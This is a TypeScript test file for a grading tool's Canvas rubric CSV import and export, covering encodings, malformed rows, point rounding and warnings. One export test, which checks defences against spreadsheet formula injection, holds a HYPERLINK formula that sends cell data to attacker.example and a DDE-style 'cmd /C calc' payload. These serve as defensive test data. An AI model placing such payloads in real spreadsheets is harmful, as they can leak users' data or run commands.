import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { scienceRubric } from "../../helpers/rubric-fixtures.js";
import {
  conversionError,
  importValid,
  interchange,
  interchangeFixture,
  requiredOptions,
} from "../../helpers/interchange-fixtures.js";
import { validateRubricDocument } from "../../../src/grading/rubric-loading.js";
import type { Rubric } from "../../../src/grading/rubric.js";

const header =
  "Rubric Name,Criteria Name,Criteria Description,Criteria Enable Range,Rating Name,Rating Description,Rating Points,Rating Name,Rating Description,Rating Points";

function csv(...rows: string[]): string {
  return [header, ...rows].join("\n");
}

function stored(document: unknown): Rubric {
  const validation = validateRubricDocument(document);
  if (!validation.ok) throw new Error(JSON.stringify(validation.problems));
  return validation.rubric;
}

describe("Canvas rubric CSV import", () => {
  it("reads Canvas's own import template: names, long descriptions, points, and merges its two 1-point ratings", () => {
    const { rubric, warnings } = importValid("canvas-csv", interchangeFixture("canvas/import-template.csv"));
    expect(rubric).toMatchObject({ id: "imported-rubric", title: "Rubric 1", language: "en" });
    expect(rubric.criteria).toEqual([
      {
        id: "criteria-1",
        title: "Criteria 1",
        description: "Criteria 1 Description",
        maxPoints: 2,
        levels: [
          { points: 2, description: "Rating 1\n\nRating 1 Description" },
          { points: 1, description: "Rating 2\n\nRating 2 Description" },
          { points: 0, description: "Rating 3\n\nRating 3 Description" },
        ],
      },
      {
        id: "criteria-2",
        title: "Criteria 2",
        description: "Criteria 2 Description",
        maxPoints: 1,
        levels: [
          {
            points: 1,
            description:
              "Criteria 2 Rating 1\n\nRating Description\n\nCriteria 2 Rating 2\n\nRating 2 Description",
          },
        ],
      },
    ]);
    expect(warnings).toEqual([
      {
        path: 'row 3 rating 2 "Criteria 2 Rating 2"',
        message: expect.stringMatching(/gives 1 points like row 3 rating 1 "Criteria 2 Rating 1".*merged/),
      },
    ]);
  });

  it("reads numbered rating headers and rows with fewer ratings than the header (Canvas's spec)", () => {
    const { rubric, warnings } = importValid(
      "canvas-csv",
      interchangeFixture("canvas/spec-varying-ratings.csv"),
    );
    expect(
      rubric.criteria.map((criterion) => [criterion.title, criterion.maxPoints, criterion.levels?.length]),
    ).toEqual([
      ["Criterion 1", 5, 1],
      ["Criterion 2", 4, 2],
      ["Criterion 3", 5, 3],
      ["Criterion 4", 5, 4],
    ]);
    expect(warnings).toEqual([]);
  });

  it("asks which rubric to take when the file holds several, and takes the one named", () => {
    const file = interchangeFixture("canvas/spec-multiple-rubrics.csv");
    const error = conversionError(() => interchange.importRubric("canvas-csv", file, requiredOptions));
    expect(error.kind).toBe("missing-option");
    expect(error.option).toBe("rubricName");
    expect(error.problems[0]!.message).toContain('2 rubrics ("Rubric 1", "Rubric 2")');

    const { rubric, warnings } = importValid("canvas-csv", file, { rubricName: "Rubric 2" });
    expect(rubric.title).toBe("Rubric 2");
    // The rubric left in the file is reported, not dropped silently.
    expect(warnings).toEqual([
      {
        path: '"Rubric Name" "Rubric 1"',
        message: "another rubric in the file: not imported (import it on its own, with its rubricName)",
      },
    ]);
    expect(rubric.criteria.map((criterion) => criterion.levels?.map((level) => level.points))).toEqual([
      [2],
      [4, 3, 2, 1],
    ]);

    const unknown = conversionError(() =>
      interchange.importRubric("canvas-csv", file, { ...requiredOptions, rubricName: "Rubric 3" }),
    );
    expect(unknown).toMatchObject({ kind: "invalid-option", option: "rubricName" });
    expect(unknown.problems[0]!.message).toContain('no rubric "Rubric 3"');
  });

  it("reads a decimal comma and rounds points that are not whole or half, naming the cell", () => {
    const { rubric, warnings } = importValid(
      "canvas-csv",
      interchangeFixture("canvas/spec-decimal-points.csv"),
      {
        rubricName: "Rubric 1",
      },
    );
    expect(rubric.criteria[0]!.levels!.map((level) => level.points)).toEqual([2, 1, 0]);
    expect(warnings).toEqual([
      {
        path: '"Rubric Name" "Rubric 2"',
        message: "another rubric in the file: not imported (import it on its own, with its rubricName)",
      },
      {
        path: 'row 2 rating 1 "Rating Points 1"',
        message: "1.75 points is not a whole or half number: rounded to 2",
      },
    ]);
  });

  it("reads a byte order mark, CRLF line ends, quoted multi-line fields and quotes, and semicolons", () => {
    const text =
      "\uFEFFRubric Name;Criteria Name;Criteria Description;Criteria Enable Range;Rating Name;Rating Description;Rating Points\r\n" +
      'Lab report;Method;"Describes the method:\r\n- materials\r\n- steps";false;Complete;"Says ""why"" for each step";2,5\r\n' +
      "\r\n";
    const { rubric } = importValid("canvas-csv", Buffer.from(text, "utf8"));
    expect(rubric.criteria[0]).toMatchObject({
      title: "Method",
      description: "Describes the method:\r\n- materials\r\n- steps",
      maxPoints: 2.5,
      levels: [{ points: 2.5, description: 'Complete\n\nSays "why" for each step' }],
    });
  });

  it("reads UTF-16 with a byte order mark (a spreadsheet's Unicode text) and refuses other encodings, naming the byte", () => {
    const text = csv("Écriture,Clarté,Idées claires,false,Très bien,,2");
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);
    expect(importValid("canvas-csv", utf16).rubric.title).toBe("Écriture");

    const latin1 = Buffer.from(text, "latin1");
    const error = conversionError(() => interchange.importRubric("canvas-csv", latin1, requiredOptions));
    expect(error.kind).toBe("invalid-file");
    expect(error.problems[0]!.message).toMatch(/is not UTF-8 text \(near byte \d+\)/);
  });

  it("refuses malformed CSV with the line where it breaks", () => {
    const error = conversionError(() =>
      interchange.importRubric(
        "canvas-csv",
        csv('R,C,"unclosed,false,A,,1', "R,D,d,false,A,,1"),
        requiredOptions,
      ),
    );
    expect(error.kind).toBe("invalid-file");
    expect(error.problems[0]).toMatchObject({ path: "file", line: 3 });
    expect(error.problems[0]!.message).toMatch(/^is not valid CSV \(Quote Not Closed/);
  });

  it.each([
    [
      "points that are not a number",
      "R,C,d,false,Good,,lots",
      /row 4, rating "Good": points "lots" is not a number/,
    ],
    ["an empty Criteria Name", "R,,d,false,Good,,1", /row 4: "Criteria Name" is empty/],
    ["a criterion without ratings", "R,C,d,false,,,", /row 4: criterion "C" has no ratings/],
  ])("refuses %s, naming the row and its line", (_case, row, message) => {
    const error = conversionError(() =>
      interchange.importRubric("canvas-csv", csv("R,First,d,false,A,,1", "", row), requiredOptions),
    );
    expect(error.problems[0]).toMatchObject({
      path: "file",
      line: 4,
      message: expect.stringMatching(message),
    });
  });

  it("refuses a blank header cell over cells that hold something, naming the column and the row", () => {
    // Regression: the column's cells were dropped without a word.
    const error = conversionError(() =>
      interchange.importRubric(
        "canvas-csv",
        [`${header},`, "R,C,d,false,Good,,2,Poor,,0,", "R,D,d,false,Good,,2,Poor,,0,Fair"].join("\n"),
        requiredOptions,
      ),
    );
    expect(error.kind).toBe("invalid-file");
    expect(error.problems[0]).toEqual({
      path: "file",
      line: 1,
      message:
        "row 1 (header): column 11 has no name, but row 3 has a value in it: name the column or delete it",
    });
    // A column blank all the way down (a trailing delimiter) is no column.
    const { rubric } = importValid("canvas-csv", [`${header},`, "R,C,d,false,Good,,2,Poor,,0,"].join("\n"));
    expect(rubric.criteria).toHaveLength(1);
  });

  it("refuses negative points, naming the cell and its line", () => {
    const error = conversionError(() =>
      interchange.importRubric("canvas-csv", csv("R,C,d,false,Good,,2,Off topic,,-1"), requiredOptions),
    );
    expect(error.problems[0]).toMatchObject({
      path: 'row 2 rating 2 "Rating Points"',
      line: 2,
      message: expect.stringContaining("negative points"),
    });
  });

  it("reports columns Canvas's CSV does not have (outcomes, mastery) and cells beyond the header", () => {
    const text = [`${header},Learning Outcome,Mastery Points`, "R,C,d,false,Good,,2,,,,OUT-1,2,extra"].join(
      "\n",
    );
    const { warnings } = importValid("canvas-csv", text);
    expect(warnings).toEqual([
      { path: 'header "Learning Outcome" (column 11)', message: expect.stringContaining("not imported") },
      { path: 'header "Mastery Points" (column 12)', message: expect.stringContaining("not imported") },
      { path: "row 2", message: expect.stringContaining("1 cell(s) beyond the header") },
    ]);
  });

  it("skips a rating without a name as Canvas does, with a warning", () => {
    const { rubric, warnings } = importValid("canvas-csv", csv("R,C,d,false,Good,,2,,no name,1"));
    expect(rubric.criteria[0]!.levels).toEqual([{ points: 2, description: "Good" }]);
    expect(warnings).toEqual([
      { path: 'row 2 rating 2 "Rating Name"', message: expect.stringContaining("Canvas skips a rating") },
    ]);
  });

  it('imports a "use range" criterion as one without levels, keeping its ratings in the description', () => {
    const { rubric, warnings } = importValid(
      "canvas-csv",
      csv("R,Spelling,Few errors,true,Good,No errors,4,Fair,,2"),
    );
    expect(rubric.criteria[0]).toEqual({
      id: "spelling",
      title: "Spelling",
      description:
        "Few errors\n\nRatings (any points within a rating's range):\n- 4: Good (No errors)\n- 2: Fair",
      maxPoints: 4,
    });
    expect(warnings).toEqual([
      {
        path: 'row 2 "Criteria Enable Range"',
        message: expect.stringContaining("any points within a rating's range"),
      },
    ]);

    const fullAndNoMarks = importValid(
      "canvas-csv",
      csv("R,Spelling,Few errors,TRUE,Full Marks,,4,No Marks,,0"),
    );
    expect(fullAndNoMarks.rubric.criteria[0]).toEqual({
      id: "spelling",
      title: "Spelling",
      description: "Few errors",
      maxPoints: 4,
    });
    expect(fullAndNoMarks.warnings).toEqual([]);
  });

  it("asks for the options the file cannot supply before reading it, and for a title when the file has no name", () => {
    const file = interchangeFixture("canvas/import-template.csv");
    expect(
      conversionError(() => interchange.importRubric("canvas-csv", file, { question: "Q" })),
    ).toMatchObject({
      kind: "missing-option",
      option: "id",
    });
    expect(
      conversionError(() => interchange.importRubric("canvas-csv", "not, a, csv", { id: "x" })),
    ).toMatchObject({
      kind: "missing-option",
      option: "question",
    });
    const withoutName = "Criteria Name,Rating Name,Rating Points\nC,Good,1";
    expect(
      conversionError(() => interchange.importRubric("canvas-csv", withoutName, requiredOptions)),
    ).toMatchObject({
      kind: "missing-option",
      option: "title",
    });
    expect(
      importValid("canvas-csv", withoutName, { title: "Named here", language: "de" }).rubric,
    ).toMatchObject({
      title: "Named here",
      language: "de",
    });
  });

  it("refuses a file that is not a Canvas rubric CSV, or too long", () => {
    expect(
      conversionError(() => interchange.importRubric("canvas-csv", "Name,Score\nAda,3", requiredOptions))
        .problems[0]!.message,
    ).toContain('no "Criteria Name" column');
    const long = csv(...Array.from({ length: 1_001 }, (_, index) => `R,C${index},d,false,A,,1`));
    expect(
      conversionError(() => interchange.importRubric("canvas-csv", long, requiredOptions)).problems[0]!
        .message,
    ).toContain("more than 1000 rows");
  });

  it("locates validation problems at the criterion's row", () => {
    const result = interchange.importRubric(
      "canvas-csv",
      csv("R,Fine,d,false,A,,1", "R,Worthless,d,false,Z,,0"),
      requiredOptions,
    );
    const validation = validateRubricDocument(result.document, result.locate);
    expect(validation.ok).toBe(false);
    if (!validation.ok) {
      expect(validation.problems).toContainEqual(
        expect.objectContaining({ path: "criteria[1].maxPoints", line: 3 }),
      );
    }
  });
});

describe("Canvas rubric CSV export", () => {
  it("writes Canvas's header and a row per criterion, without a byte order mark", () => {
    const { body, mediaType, filename } = interchange.exportRubric("canvas-csv", stored(scienceRubric));
    expect(mediaType).toBe("text/csv; charset=utf-8");
    expect(filename).toBe("photosynthesis-basics.csv");
    expect(body.startsWith("Rubric Name,Criteria Name,Criteria Description,Criteria Enable Range,")).toBe(
      true,
    );
    const rows: string[][] = parse(body);
    expect(rows).toEqual([
      [
        "Rubric Name",
        "Criteria Name",
        "Criteria Description",
        "Criteria Enable Range",
        "Rating Name",
        "Rating Description",
        "Rating Points",
        "Rating Name",
        "Rating Description",
        "Rating Points",
      ],
      [
        "Photosynthesis basics",
        "Inputs",
        "Names light, water and carbon dioxide.",
        "false",
        "All three inputs.",
        "",
        "2",
        "Two of the inputs.",
        "",
        "1",
      ],
      [
        "Photosynthesis basics",
        "Outputs",
        "Names glucose (sugar) and oxygen.",
        "true",
        "Full Marks",
        "",
        "2",
        "No Marks",
        "",
        "0",
      ],
    ]);
  });

  it("guards cells a spreadsheet would run as formulas with an apostrophe (OWASP), and import removes it", () => {
    const rubric = stored({
      ...scienceRubric,
      title: '=HYPERLINK("https://attacker.example/?"&A1,"Open")',
      criteria: [
        {
          ...scienceRubric.criteria[0],
          id: "1-for-each-input",
          title: "+1 for each input",
          description: "@SUM(1+1)*cmd|' /C calc'!A0",
          levels: [
            { points: 2, description: "-2+3 all three inputs.\n\n=1+1 in the long description" },
            { points: 1, description: "Two of the inputs.\n\n- a bulleted list" },
          ],
        },
        scienceRubric.criteria[1],
      ],
    });
    const { body, warnings } = interchange.exportRubric("canvas-csv", rubric);
    const rows: string[][] = parse(body);
    expect(rows[1]!.slice(0, 10)).toEqual([
      `'=HYPERLINK("https://attacker.example/?"&A1,"Open")`,
      "'+1 for each input",
      "'@SUM(1+1)*cmd|' /C calc'!A0",
      "false",
      "'-2+3 all three inputs.",
      "'=1+1 in the long description",
      "2",
      "Two of the inputs.",
      "'- a bulleted list",
      "1",
    ]);
    expect(rows[2]![0]).toBe(rows[1]![0]);
    // No cell of the file starts a formula; numbers and the header are untouched.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(warnings.filter((warning) => warning.message.includes("leading apostrophe"))).toEqual([
      { path: "title", message: expect.stringContaining('starts with "="') },
      { path: "criteria[0].title", message: expect.stringContaining('starts with "+"') },
      { path: "criteria[0].description", message: expect.stringContaining('starts with "@"') },
      { path: "criteria[0].levels[0].description", message: expect.stringContaining('starts with "-"') },
      { path: "criteria[0].levels[1].description", message: expect.stringContaining('starts with "-"') },
    ]);
    // Stored text is trimmed, so a tab or CR can only lead a cell of a rubric given to export directly.
    const tabbed = interchange.exportRubric("canvas-csv", {
      ...rubric,
      criteria: [rubric.criteria[0]!, { ...rubric.criteria[1]!, description: "\tIndented\r" }],
    });
    const tabbedRows: string[][] = parse(tabbed.body);
    expect(tabbedRows[2]![2]).toBe("'\tIndented\r");
    expect(tabbed.warnings).toContainEqual({
      path: "criteria[1].description",
      message: expect.stringContaining('starts with "\\t"'),
    });

    const back = importValid("canvas-csv", body, { id: rubric.id, question: rubric.question });
    expect(back.rubric.title).toBe(rubric.title);
    expect(back.rubric.criteria).toEqual(rubric.criteria);
    expect(back.warnings).toContainEqual({
      path: 'row 2 "Rubric Name"',
      message:
        'starts with an apostrophe before "=", the guard against spreadsheet formulas: read without the apostrophe',
    });
    // An apostrophe before anything else is the teacher's own text, kept.
    const own = importValid("canvas-csv", csv("R,'tis the season,,false,'Quoted',,1"));
    expect(own.rubric.criteria[0]).toMatchObject({
      title: "'tis the season",
      levels: [{ points: 1, description: "'Quoted'" }],
    });
  });

  it("gives back a text that itself starts with an apostrophe before a formula character", () => {
    // Regression: "'=SUM(A1)" was written as it is, and import took its apostrophe for the guard and
    // removed it: the round trip gave "=SUM(A1)".
    const rubric = stored({
      ...scienceRubric,
      title: "'=SUM(A1) is how a sheet adds",
      criteria: [
        {
          ...scienceRubric.criteria[0],
          id: "1-for-each-input",
          title: "'+1 for each input",
          description: "'- a quoted list item",
          levels: [
            { points: 2, description: "'@ all three inputs.\n\n'=1+1 in the long description" },
            { points: 1, description: "Two of the inputs." },
          ],
        },
        scienceRubric.criteria[1],
      ],
    });
    const { body, warnings } = interchange.exportRubric("canvas-csv", rubric);
    const rows: string[][] = parse(body);
    expect(rows[1]!.slice(0, 7)).toEqual([
      "''=SUM(A1) is how a sheet adds",
      "''+1 for each input",
      "''- a quoted list item",
      "false",
      "''@ all three inputs.",
      "''=1+1 in the long description",
      "2",
    ]);
    expect(warnings).toContainEqual({
      path: "title",
      message: expect.stringContaining('starts with an apostrophe before "="'),
    });
    const back = importValid("canvas-csv", body, { id: rubric.id, question: rubric.question });
    expect(back.rubric.title).toBe(rubric.title);
    expect(back.rubric.criteria).toEqual(rubric.criteria);
  });

  it("reports every field Canvas's CSV cannot carry", () => {
    const rubric = stored({
      ...scienceRubric,
      gradingNotes: "Accept CO2.",
      criteria: [{ ...scienceRubric.criteria[0], id: "reactants" }, scienceRubric.criteria[1]],
      exemplars: [{ answer: "Water and light.", points: { reactants: 1, outputs: 0 } }],
      grading: { strategy: "per-criterion" },
    });
    const { warnings } = interchange.exportRubric("canvas-csv", rubric);
    expect(warnings.map((warning) => warning.path)).toEqual([
      "id",
      "question",
      "language",
      "referenceAnswer",
      "gradingNotes",
      "exemplars",
      "grading",
      "criteria[0].id",
      "criteria[1]",
    ]);
    expect(warnings.find((warning) => warning.path === "criteria[0].id")!.message).toContain(
      'importing the file back names the criterion "inputs"',
    );
    expect(warnings.find((warning) => warning.path === "criteria[1]")!.message).toContain('"use range"');
  });
});
